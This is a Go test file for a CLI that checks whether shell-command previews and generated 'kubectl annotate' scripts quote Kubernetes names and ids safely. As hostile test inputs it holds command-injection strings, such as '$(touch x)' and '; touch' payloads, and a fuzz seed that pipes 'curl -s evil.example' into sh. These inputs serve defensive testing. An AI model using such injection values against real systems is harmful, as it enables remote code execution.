package cli

import (
	"bytes"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/stormhooks/stormhooks/e2e/testkit"
	"github.com/stormhooks/stormhooks/pkg/api/v1beta1"
	"github.com/stormhooks/stormhooks/pkg/preview"
	"github.com/stormhooks/stormhooks/pkg/storm"
)

// A real shell reads the words back as they were.
func TestShellCommand(t *testing.T) {
	words := []string{"a-1-2", "", "two words", "it's", `"`, `\`, "$HOME", "$(touch x)", "`touch x`", "; touch x #", "*", "~", "ä", "-n", "a=b", "!!", "&", "'''"}
	out, err := exec.CommandContext(t.Context(), "sh", "-c", preview.Command(append([]string{"printf", `%s\0`}, words...)...)).Output()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(words, strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if got, want := preview.Command("kubectl", "annotate", "a=wordcount-1-1767268800"), "kubectl annotate a=wordcount-1-1767268800"; got != want {
		t.Errorf("%s, want %s without quotes", got, want)
	}
}

// docs/operations.md runs what adopt prints: an id that Nimbus made up, or a name
// in a file, must not run anything else.
func TestAdoptPrintsOneCommandForEachTopology(t *testing.T) {
	dir := t.TempDir()
	hostile := "; touch " + filepath.Join(dir, "ran") + "\n#"
	object := func(name, id string) Object {
		return Object{Kind: KindTopology, Namespace: "n", Name: name, Content: map[string]any{
			"metadata": map[string]any{"name": name, "namespace": "n"}, "status": map[string]any{"stormId": id}}}
	}
	var script bytes.Buffer
	if err := adopt(&script, []Object{object("a", "a-1-1"+hostile), object("b"+hostile, "b-1-1"), object("idle"+hostile, ""), object("d", "d-1-1")}, nil, ""); err != nil {
		t.Fatal(err)
	}
	shell := exec.CommandContext(t.Context(), "sh")
	shell.Stdin = strings.NewReader(`kubectl() { printf '%s|' "$@"; }` + "\n" + script.String())
	out, err := shell.CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	want := "annotate|stormtopology|b" + strings.ReplaceAll(hostile, "\n", " ") + "|-n|n|--overwrite|" + v1beta1.AnnotationAdopt + "=b-1-1|" +
		"annotate|stormtopology|d|-n|n|--overwrite|" + v1beta1.AnnotationAdopt + "=d-1-1|"
	if diff := cmp.Diff(want, string(out)); diff != "" {
		t.Errorf("%s\n(-want +got):\n%s", script.String(), diff)
	}
	if ran, _ := filepath.Glob(filepath.Join(dir, "*")); len(ran) > 0 {
		t.Errorf("the id ran a command")
	}
}

// FuzzAdoptAndExport prints what any Nimbus may have put into a status, and any name of a
// file: each line of adopt is a comment or one kubectl annotate with the words that it
// must have, and export adopts only by an id that Storm can make.
func FuzzAdoptAndExport(f *testing.F) {
	f.Add("wordcount", "n", "wordcount-1-1000")
	f.Add("wordcount", "n", "wordcount-1-1000; curl -s evil.example|sh #")
	f.Add("a\n$(id)", "n'`id`", "a-1-1")
	f.Add("=a", "\x1b]8;;x\x07", "\u202ea-1-1")
	f.Fuzz(func(t *testing.T, name, namespace, id string) {
		object := Object{Kind: KindTopology, Namespace: namespace, Name: name, Content: map[string]any{
			"metadata": map[string]any{"name": name, "namespace": namespace}, "status": map[string]any{"stormId": id}}}
		var script bytes.Buffer
		if err := adopt(&script, []Object{object}, nil, ""); err != nil {
			return // it has no name
		}
		line := strings.TrimSuffix(script.String(), "\n")
		want := []string{"kubectl", "annotate", "stormtopology", preview.Line(name), "-n", preview.Line(namespace), "--overwrite", v1beta1.AnnotationAdopt + "=" + id}
		if words, err := testkit.Words(line); !strings.HasPrefix(line, "# ") && (err != nil || !slices.Equal(words, want)) {
			t.Errorf("%q: %q, %v", line, words, err)
		}
		if strings.Contains(line, "\n") || strings.HasPrefix(line, "# ") == storm.ValidID(id) {
			t.Errorf("not one line: %q", line)
		}
		metadata, _ := portable(object, false)["metadata"].(map[string]any)
		if annotations, _ := metadata["annotations"].(map[string]any); (annotations[v1beta1.AnnotationAdopt] == id) != storm.ValidID(id) {
			t.Errorf("exported: %v", metadata)
		}
	})
}
